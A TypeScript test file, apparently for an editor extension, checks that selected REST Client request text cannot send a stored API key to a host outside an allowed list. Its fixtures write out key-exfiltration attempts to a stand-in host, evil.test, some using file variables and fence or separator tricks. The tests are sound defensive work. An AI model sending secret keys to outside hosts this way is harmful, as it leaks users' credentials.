import assert from 'node:assert/strict';
import { checkFile } from '../../src/requestFiles/hostCheck';
import { formatVariableReference, getVariableName } from '../../src/requestFiles/keyReferences';
import { findRequestUses } from '../../src/requestFiles/requestUses';
import { toSelectedRequest } from '../../src/requestFiles/selectedText';
import { allowOrigins } from '../support/hostChecks';
import { createSourceToken } from '../support/sourceTokens';

const TOKEN = createSourceToken();
const VARIABLE = getVariableName(TOKEN.token.id);
const REFERENCE = formatVariableReference(TOKEN.token.id);
const CONTEXT = allowOrigins(['https://good.test'], TOKEN.token.id);

function check(selected: string, text = ''): string | undefined {
	const { requests } = findRequestUses(toSelectedRequest(selected, text), 'markdown');
	return checkFile(requests, TOKEN, new Map([[VARIABLE, TOKEN]]), 'file:///requests.http', CONTEXT)?.kind;
}

/** REST Client drops separators in selected text, like all comments, so it sends all of it as one request. */
describe('a selection can’t make REST Client send a key to another host', () => {
	const foreign: Record<string, readonly [selected: string, text?: string]> = {
		'in a body': [`GET https://evil.test/?key=${REFERENCE}`],
		'by a variable of the file': ['GET https://evil.test/?key={{key}}', `@key = ${REFERENCE}\n`],
		'to a host in a variable of the file': [`GET {{base}}/?key=${REFERENCE}`, '@base = https://evil.test\n'],
		'with a request below as its body': [`GET https://evil.test/\n\n###\nGET https://good.test/\nX: ${REFERENCE}`],
		'with a fence in the body': [`GET https://evil.test/\n\n\`\`\`\n${REFERENCE}\n`],
		'in a file with an open fence': [`GET https://evil.test/?key=${REFERENCE}`, '~~~~js\n'],
	};
	for (const [title, [selected, text]] of Object.entries(foreign)) {
		it(title, () => {
			assert.equal(check(selected, text), 'foreign');
		});
	}

	it('but to an allowed one', () => {
		assert.equal(check(`@key = x\nGET https://good.test/\nX: ${REFERENCE}`), 'allowed');
	});

	it('and nothing is withheld if the selection isn’t a request with a key', () => {
		assert.equal(check(`Authorization: ApiKey ${REFERENCE}`), undefined);
		assert.equal(check('https://evil.test/', `@key = ${REFERENCE}\n`), undefined);
	});
});
